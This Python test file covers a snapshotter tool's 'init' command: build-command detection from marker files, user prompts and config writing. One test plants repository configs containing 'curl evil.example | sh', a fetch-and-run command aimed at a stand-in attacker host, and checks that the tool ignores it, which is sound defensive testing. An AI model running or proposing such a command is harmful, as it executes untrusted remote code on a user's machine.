"""``snapshotter init`` on real repositories, and the build command it proposes."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from snapshotter.cli_setup import init
from snapshotter.config import WorkspaceConfig, default_config_text, load_config
from snapshotter.detect import COMPILEALL, propose_build
from snapshotter.paths import default_config_file
from tests.repos import Repo

# -- detect -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("files", "command"),
    [
        ({"dune-project": "(lang dune 3.0)\n"}, "dune build"),
        ({"Cargo.toml": "[package]\nname = 'x'\n"}, "cargo check"),
        ({"Makefile": "all:\n"}, "make"),
        ({"makefile": "all:\n"}, "make"),
        ({"GNUmakefile": "all:\n"}, "make"),
        ({"go.mod": "module example.com/x\n"}, "go build ./..."),
        ({"package.json": "{}", "tsconfig.json": "{}"}, "npx tsc --noEmit"),
        (
            {"package.json": json.dumps({"devDependencies": {"typescript": "^5"}})},
            "npx tsc --noEmit",
        ),
        ({"package.json": json.dumps({"dependencies": {"typescript": "5"}})}, "npx tsc --noEmit"),
        ({"pyproject.toml": "[project]\nname = 'x'\n"}, COMPILEALL),
        ({"setup.py": "from setuptools import setup\n"}, COMPILEALL),
        ({"pyproject.toml": "[tool.mypy]\nstrict = true\n"}, "mypy ."),
        ({"pyproject.toml": "[tool.mypy]\nfiles = ['src']\n"}, "mypy"),
        ({"setup.py": "", "mypy.ini": "[mypy]\n"}, "mypy ."),
        ({"pyproject.toml": "this is not toml ["}, COMPILEALL),
    ],
)
def test_each_marker_proposes_its_command(
    tmp_path: Path, files: dict[str, str], command: str
) -> None:
    for name, content in files.items():
        (tmp_path / name).write_text(content)
    assert propose_build(tmp_path) == command


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"README.md": "hello"},
        {"package.json": json.dumps({"dependencies": {"react": "18"}})},
        {"package.json": "not json"},
        {"package.json": "[1, 2]"},
    ],
)
def test_nothing_recognised_proposes_nothing(tmp_path: Path, files: dict[str, str]) -> None:
    for name, content in files.items():
        (tmp_path / name).write_text(content)
    assert propose_build(tmp_path) is None


@pytest.mark.parametrize(
    ("files", "command"),
    [
        (["dune-project", "Makefile", "pyproject.toml"], "dune build"),
        (["Cargo.toml", "Makefile"], "cargo check"),
        (["Makefile", "go.mod", "package.json", "tsconfig.json", "setup.py"], "make"),
        (["go.mod", "package.json", "tsconfig.json"], "go build ./..."),
        (["package.json", "tsconfig.json", "pyproject.toml"], "npx tsc --noEmit"),
    ],
)
def test_the_documented_precedence(tmp_path: Path, files: list[str], command: str) -> None:
    for name in files:
        (tmp_path / name).write_text("{}" if name.endswith(".json") else "")
    assert propose_build(tmp_path) == command


def test_markers_are_only_looked_for_at_the_root(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "Cargo.toml").write_text("")
    (tmp_path / "Makefile").mkdir()  # a directory is not a marker file
    assert propose_build(tmp_path) is None


def test_the_compileall_proposal_works_and_skips_hidden_folders(tmp_path: Path) -> None:
    (tmp_path / "ok.py").write_text("x = 1\n")
    (tmp_path / ".venv").mkdir()
    (tmp_path / ".venv" / "broken.py").write_text("def (\n")
    run = subprocess.run(shlex.split(COMPILEALL), cwd=tmp_path, capture_output=True, check=False)
    assert run.returncode == 0, run.stdout + run.stderr
    (tmp_path / "bad.py").write_text("def (\n")
    run = subprocess.run(shlex.split(COMPILEALL), cwd=tmp_path, capture_output=True, check=False)
    assert run.returncode == 1


# -- init ---------------------------------------------------------------------------------


def run_init(*args: str, input: str | None = None) -> Result:
    return CliRunner().invoke(init, list(args), input=input, catch_exceptions=False)


def workspaces() -> tuple[WorkspaceConfig, ...]:
    return load_config().workspaces


def test_init_proposes_and_the_user_confirms(repo: Repo) -> None:
    repo.write("Makefile", "all:\n\ttrue\n")
    result = run_init(str(repo.path), input="\n")
    assert result.exit_code == 0, result.output
    assert f"{repo.kind} working copy at {repo.path.resolve()}" in result.output
    assert "[make]" in result.output  # the proposal is the prompt's default
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), "make"),)
    assert "wrote the commented default config to ~/.config/redgreen/config.toml" in result.output
    assert "snapshotter run" in result.output and "snapshotter install-service" in result.output
    assert default_config_file().read_text().startswith(default_config_text())


def test_init_lets_the_user_type_another_command(repo: Repo) -> None:
    repo.write("Cargo.toml", "[package]\n")
    result = run_init(str(repo.path), input="cargo clippy --all-targets\n")
    assert result.exit_code == 0, result.output
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), "cargo clippy --all-targets"),)


def test_init_yes_accepts_the_proposal_without_asking(repo: Repo) -> None:
    repo.write("go.mod", "module x\n")
    result = run_init("--yes", str(repo.path))
    assert result.exit_code == 0, result.output
    assert "Build command" not in result.output
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), "go build ./..."),)


def test_init_build_option_skips_the_question(repo: Repo) -> None:
    repo.write("Makefile", "all:\n")
    result = run_init("--build", "ninja -C out", str(repo.path))
    assert result.exit_code == 0, result.output
    assert "Build command" not in result.output
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), "ninja -C out"),)


def test_init_with_an_empty_build_records_no_build(repo: Repo) -> None:
    result = run_init("--build", "", str(repo.path))
    assert result.exit_code == 0, result.output
    assert "no build command" in result.output
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), None),)


def test_init_without_a_proposal_asks_and_accepts_none(repo: Repo) -> None:
    result = run_init(str(repo.path), input="\n")
    assert result.exit_code == 0, result.output
    assert "No build command recognised" in result.output
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), None),)


def test_init_defaults_to_the_current_folder_and_finds_the_root(
    repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.write("src/deep/x.py", "x = 1\n")
    repo.write("pyproject.toml", "[tool.mypy]\n")
    monkeypatch.chdir(repo.path / "src" / "deep")
    result = run_init("--yes")
    assert result.exit_code == 0, result.output
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), "mypy ."),)


def test_a_build_command_shipped_in_the_repository_is_never_used(repo: Repo) -> None:
    repo.write(".redgreen.toml", '[[workspace]]\nbuild = "curl evil.example | sh"\n')
    repo.write("redgreen.toml", '[agent]\nbuild = "curl evil.example | sh"\n')
    repo.write("Makefile", "all:\n")
    repo.commit("ship a config")
    result = run_init("--yes", str(repo.path))
    assert result.exit_code == 0, result.output
    assert "evil" not in result.output
    assert "evil" not in default_config_file().read_text()
    assert workspaces() == (WorkspaceConfig(repo.path.resolve(), "make"),)
    # asked, the default offered is the proposal from the marker files, not the shipped one
    other = Repo(repo.kind, repo.path.parent / "other")
    other.write(".redgreen.toml", 'build = "curl evil.example | sh"\n')
    result = run_init(str(other.path), input="\n")
    assert "evil" not in result.output
    assert workspaces()[1] == WorkspaceConfig(other.path.resolve(), None)


def test_init_twice_is_refused_and_changes_nothing(repo: Repo) -> None:
    assert run_init("--build", "make", str(repo.path)).exit_code == 0
    before = default_config_file().read_text()
    result = run_init("--build", "cargo check", str(repo.path))
    assert result.exit_code == 1
    assert "is already a workspace" in result.output and "build: make" in result.output
    assert default_config_file().read_text() == before


def test_init_keeps_an_existing_config_and_appends(repo: Repo) -> None:
    path = default_config_file()
    path.parent.mkdir(parents=True)
    path.write_text("# mine\n[agent]\ninterval = 10\n")
    result = run_init("--build", "make", str(repo.path))
    assert result.exit_code == 0, result.output
    assert "wrote the commented default" not in result.output
    assert path.read_text().startswith("# mine\n[agent]\ninterval = 10\n")
    assert load_config().agent.interval == 10.0
    assert len(workspaces()) == 1


def test_init_reports_a_broken_config_before_asking(repo: Repo) -> None:
    path = default_config_file()
    path.parent.mkdir(parents=True)
    path.write_text("[agent]\nintervall = 10\n")
    result = run_init(str(repo.path), input="make\n")
    assert result.exit_code == 1
    assert "unknown key agent.intervall (did you mean agent.interval?)" in result.output
    assert "Build command" not in result.output


def test_init_outside_a_working_copy_is_a_one_line_error(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    result = run_init("--yes", str(plain))
    assert result.exit_code == 1
    assert result.output.strip() == f"Error: {plain} is not inside a Mercurial or Git working copy"
    assert not default_config_file().exists()


def test_init_writes_to_the_given_config_file(repo: Repo, tmp_path: Path) -> None:
    config = tmp_path / "my.toml"
    result = run_init("--config", str(config), "--build", "make", str(repo.path))
    assert result.exit_code == 0, result.output
    assert load_config(config).workspaces == (WorkspaceConfig(repo.path.resolve(), "make"),)
    assert not default_config_file().exists()


def test_init_refuses_a_nested_workspace_before_asking(repo: Repo) -> None:
    assert run_init("--build", "make", str(repo.path)).exit_code == 0
    nested = Repo(repo.kind, repo.path / "vendor" / "lib")  # a repository inside the first
    result = run_init(str(nested.path), input="make\n")
    assert result.exit_code == 1
    assert "are nested" in result.output and "Build command" not in result.output
    assert len(workspaces()) == 1
